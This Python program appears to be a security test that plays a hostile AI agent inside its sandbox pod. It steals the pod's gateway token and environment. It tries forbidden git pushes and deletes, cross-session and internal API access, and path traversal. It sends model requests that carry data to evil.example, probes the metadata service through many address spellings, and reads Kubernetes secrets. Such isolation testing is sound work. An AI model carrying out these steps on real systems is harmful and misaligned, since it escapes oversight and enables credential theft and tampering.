"""What a hostile agent does with all that its pod has: a program for the pod, and for the tests beside it.

It needs nothing but Python and git. Where it has a `Way` to the git host and the model, it takes it; through
the gateway with the pod's own token, or, to show that the attacks work, straight to the hosts with their real
credentials. What comes of each attack is told, not judged.
"""

from __future__ import annotations

import gzip
import http.client
import json
import os
import socket
import ssl
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

ZERO = "0" * 40
RECEIVE = {"Content-Type": "application/x-git-receive-pack-request"}
MODEL = "claude-sonnet-5-5"
PLAIN: dict[str, object] = {"model": MODEL, "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}
METADATA = (
    "169.254.169.254",
    "169.254.169.254.",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "2852039166",
    "0xa9fea9fe",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.16689662",
)
"""Spellings that a resolver takes for the address of the cloud's metadata service."""
Told = dict[str, object]


@dataclass
class Way:
    """How git host and model are reached, and as whom."""

    git: str
    """What `/owner/repo.git` is appended to."""
    model: str
    git_headers: dict[str, str]
    model_headers: dict[str, str]
    ca: str | None = None
    repository: str = ""
    other: str = ""
    own: str = "mine"
    """The branch that the session may push to."""
    theirs: str = "claude/theirs"
    told: dict[str, Told] = field(default_factory=dict)

    @property
    def tls(self) -> ssl.SSLContext | None:
        return ssl.create_default_context(cadata=self.ca) if self.ca else None


def ask(
    way: Way, url: str, *, method: str = "GET", headers: dict[str, str] | None = None, body: bytes = b""
) -> Told:
    """A request whose path goes out exactly as it is written."""
    parts = urlsplit(url)
    place = (parts.hostname or "", parts.port or (443 if parts.scheme == "https" else 80))
    connection = (
        http.client.HTTPSConnection(*place, timeout=20, context=way.tls)
        if parts.scheme == "https"
        else http.client.HTTPConnection(*place, timeout=20)
    )
    path = url.partition("://")[2].partition("/")[2]
    try:
        connection.putrequest(method, f"/{path}", skip_accept_encoding=True)
        for name, value in {**(headers or {}), "Content-Length": str(len(body))}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        return {"status": answer.status, "said": answer.read().decode("utf-8", "replace")}
    except (OSError, http.client.HTTPException) as error:
        return {"status": 0, "said": f"{type(error).__name__}: {error}"}
    finally:
        connection.close()


def git(way: Way, *arguments: str, cwd: str) -> Told:
    """A git command; its exit code as status."""
    options = [f"http.extraHeader={name}: {value}" for name, value in way.git_headers.items()]
    if way.ca:
        file = Path(tempfile.gettempdir()) / "attack-ca.pem"
        file.write_text(way.ca)
        options.append(f"http.sslCAInfo={file}")
    done = subprocess.run(
        ["git", *(part for option in options for part in ("-c", option)), *arguments],
        cwd=cwd,
        env={
            "PATH": os.environ["PATH"],
            "HOME": cwd,
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_TERMINAL_PROMPT": "0",
            **{
                f"GIT_{who}_{what}": "x@example.com"
                for who in ("AUTHOR", "COMMITTER")
                for what in ("NAME", "EMAIL")
            },
        },
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=60,
        check=False,
    )
    return {"status": done.returncode, "said": done.stdout}


def line(text: str) -> bytes:
    """A pkt-line."""
    return b"%04x" % (len(text.encode()) + 4) + text.encode()


def push_attacks(way: Way) -> None:
    """Everything that a push can ask for beside the session's own branch."""
    with tempfile.TemporaryDirectory() as folder:
        remote, clone = f"{way.git}/{way.repository}.git", f"{folder}/clone"
        way.told["git: clone"] = git(way, "clone", "-q", remote, clone, cwd=folder)
        main = str(git(way, "rev-parse", "origin/main", cwd=clone)["said"]).strip()
        git(way, "commit", "-q", "--allow-empty", "-m", "evil", cwd=clone)
        own, theirs = f"HEAD:refs/heads/{way.own}", f"+HEAD:refs/heads/{way.theirs}"
        for name, refs in {
            "another session's branch": [theirs],
            "a tag": ["HEAD:refs/tags/v9"],
            "two at once": [own, "HEAD:refs/heads/second"],
            "push options": ["-o", "ci.skip", own],
            "main": ["HEAD:refs/heads/main"],
            "a delete": [":refs/heads/doomed"],
            "notes": ["HEAD:refs/notes/x"],
        }.items():
            options = [one for one in refs if one in ("-o", "ci.skip")]
            wanted = [one for one in refs if one not in options]
            way.told[f"git: {name}"] = git(way, "push", *options, remote, *wanted, cwd=clone)
        elsewhere = f"{way.git}/{way.other}.git"
        way.told["git: another repository"] = git(way, "clone", "-q", elsewhere, "stolen", cwd=folder)
        way.told["git: a push to another repository"] = git(way, "push", elsewhere, own, cwd=clone)
        endpoint = f"{remote}/git-receive-pack"
        gone = line(f"{main} {ZERO} refs/heads/gzipped\0report-status\n") + b"0000"
        headers = {**way.git_headers, **RECEIVE, "Content-Encoding": "gzip"}
        way.told["git: a gzipped delete"] = ask(
            way, endpoint, method="POST", headers=headers, body=gzip.compress(gone)
        )
        way.told["git: a push certificate"] = ask(
            way,
            endpoint,
            method="POST",
            headers={**way.git_headers, **RECEIVE},
            body=certificate(main, "refs/heads/certified"),
        )


def certificate(commit: str, ref: str) -> bytes:
    """A push that deletes `ref`, as a certificate: the command stands inside, where a filter may not look."""
    lines = [
        "certificate version 0.1\n",
        "pusher x <x@example.com> 1767261600 +0000\n",
        "nonce none\n",
        "\n",
        f"{commit} {ZERO} {ref}\n",
        "-----BEGIN PGP SIGNATURE-----\n",
        "-----END PGP SIGNATURE-----\n",
    ]
    return (
        line("push-cert\0report-status agent=git/2.40\n")
        + b"".join(map(line, lines))
        + line("push-cert-end\n")
        + b"0000"
    )


def model_attacks(way: Way) -> None:
    """What carries data out from the provider's side, or costs what nobody has allowed."""
    document = {"type": "document", "source": {"type": "url", "url": "https://evil.example/?q=secret"}}
    stored = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
    use: dict[str, object] = {"type": "tool_use", "id": "toolu_1", "name": "Read", "input": {}}
    result = [{"type": "tool_result", "tool_use_id": "toolu_1", "content": [document]}]
    connector = {"type": "url", "url": "https://evil.example/mcp", "name": "evil"}

    def said(content: object) -> dict[str, object]:
        return {"messages": [{"role": "user", "content": content}]}

    attacks: dict[str, dict[str, object]] = {
        "web search": {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        "web fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        "code execution": {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
        "an MCP connector": {"mcp_servers": [connector]},
        "a container": {"container": "c_1"},
        "an unlisted model": {"model": "claude-opus-4-1"},
        "a URL source": said([document]),
        "a URL source in a tool's result": {
            "messages": [
                {"role": "user", "content": "hi"},
                {"role": "assistant", "content": [use]},
                {"role": "user", "content": result},
            ]
        },
        "a file source": said([stored]),
        "a priority tier": {"service_tier": "auto"},
    }
    for name, changes in attacks.items():
        way.told[f"model: {name}"] = message(way, {**PLAIN, **changes})
    betas = {"anthropic-beta": "files-api-2025-04-14"}
    way.told["model: a beta feature"] = message(way, PLAIN, betas)
    way.told["model: an ordinary request"] = message(way, PLAIN)


def message(way: Way, body: object, headers: dict[str, str] | None = None) -> Told:
    """A request to the model."""
    return ask(
        way,
        f"{way.model}/v1/messages",
        method="POST",
        headers={
            "Content-Type": "application/json",
            "anthropic-version": "2023-06-01",
            **way.model_headers,
            **(headers or {}),
        },
        body=json.dumps(body).encode(),
    )


def connect(way: Way, proxy: str, token: str, request_line: str) -> Told:
    """One request line to the CONNECT port."""
    host, _, port = proxy.partition(":")
    context = way.tls
    assert context is not None
    try:
        with (
            socket.create_connection((host, int(port)), timeout=20) as plain,
            context.wrap_socket(plain, server_hostname=host) as secure,
        ):
            head = f"{request_line}\r\nHost: x\r\nProxy-Authorization: Bearer {token}\r\n\r\n"
            secure.sendall(head.encode("latin-1"))
            said = b""
            while piece := secure.recv(65536):
                said += piece
    except OSError as error:
        return {"status": 0, "said": f"{type(error).__name__}: {error}"}
    return {"status": int(said.split(b" ", 2)[1]), "said": said.decode("utf-8", "replace")}


def pod_attacks(way: Way, token: str, victim: dict[str, str]) -> None:
    """What only a pod has: the gateway's ports, the Kubernetes API, the proxy."""
    bearer = {"Authorization": f"Bearer {token}"}
    gateway = way.model
    proxy = f"{urlsplit(gateway).hostname}:8445"
    internal = f"https://{urlsplit(gateway).hostname}:8444/internal/v1/sessions/{victim['uid']}"
    blob = f"{gateway}/v1/session/blobs/{victim['sha256']}"
    way.told["pod: another's blob"] = ask(way, blob, headers=bearer)
    claimed = {"path": "stolen", "blob": {"sha256": victim["sha256"], "size": int(victim["size"])}}
    way.told["pod: another's blob as its own"] = ask(
        way,
        f"{gateway}/v1/session/artifacts",
        method="POST",
        headers=bearer,
        body=json.dumps(claimed).encode(),
    )
    for place, path in {
        "the record": "",
        "the journal": "/events",
        "the artifacts": "/artifacts",
        "the inbox": "/inbox",
        "a close": "/attempts/1/close",
        "a cancel": "/cancel",
        "an outcome": "/outcome",
    }.items():
        method = {"the inbox": "POST", "a close": "POST", "a cancel": "POST", "an outcome": "PUT"}.get(
            place, "GET"
        )
        way.told[f"pod: {place} of another at the internal port"] = ask(
            way, internal + path, method=method, headers=bearer, body=b"{}"
        )
    inside = f"/internal/v1/sessions/{victim['uid']}/events"
    way.told["pod: the internal path at its own port"] = ask(way, gateway + inside, headers=bearer)
    base = f"{way.git}/{way.repository}"
    for trick in (
        "/../other.git",
        "/%2e%2e/other.git",
        "//other.git",
        ".git/../other.git",
        "%2fx.git",
        ".git/./",
    ):
        path = f"{base}{trick}/info/refs?service=git-upload-pack"
        way.told[f"pod: the path {trick}"] = ask(way, path, headers=bearer)
    lines = [f"CONNECT {spelled}:{port} HTTP/1.1" for spelled in METADATA for port in (80, 443)]
    lines += [
        f"CONNECT {host}:443 HTTP/1.1"
        for host in ("evil.example", "kubernetes.default.svc", "localhost", "127.0.0.1", victim["gateway"])
    ]
    lines += ["GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", "GET http://evil.example/ HTTP/1.1"]
    for request_line in lines:
        way.told[f"proxy: {request_line}"] = connect(way, proxy, token, request_line)
    server = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
    unverified = Way("", "", {}, {})
    # The API server's certificate is another CA's, which the pod does not even have.
    context = ssl._create_unverified_context()
    for path in (f"/api/v1/namespaces/{victim['namespace']}/secrets", "/api/v1/nodes", "/version?x"):
        request = http.client.HTTPSConnection(urlsplit(server).netloc, context=context, timeout=20)
        try:
            request.request("GET", path, headers=bearer)
            answer = request.getresponse()
            unverified.told[path] = {
                "status": answer.status,
                "said": answer.read().decode("utf-8", "replace"),
            }
        except OSError as error:
            unverified.told[path] = {"status": 0, "said": str(error)}
        finally:
            request.close()
    way.told |= {f"kubernetes: {path}": told for path, told in unverified.told.items()}


def main() -> None:
    """In a pod: all of it, told in `loot.json`."""
    victim = json.loads(sys.argv[1])
    entries = Path("/proc/1/environ").read_text().split("\0")
    environment = dict(entry.split("=", 1) for entry in entries if "=" in entry)
    token = Path("/var/run/secrets/claude-gateway/token").read_text().strip()
    gateway, bearer = environment["CLAUDE_GATEWAY_URL"], {"Authorization": f"Bearer {token}"}
    way = Way(
        git=f"{gateway}/git/{victim['host']}",
        model=gateway,
        git_headers=bearer,
        model_headers=bearer,
        ca=environment["CLAUDE_GATEWAY_CA"],
        repository=victim["repository"],
        other=victim["other"],
        own=subprocess.check_output(["git", "branch", "--show-current"], text=True).strip(),
        theirs=victim["theirs"],
    )
    push_attacks(way)
    model_attacks(way)
    pod_attacks(way, token, victim)
    Path("loot.json").write_text(json.dumps(way.told, indent=1))


if __name__ == "__main__":
    main()
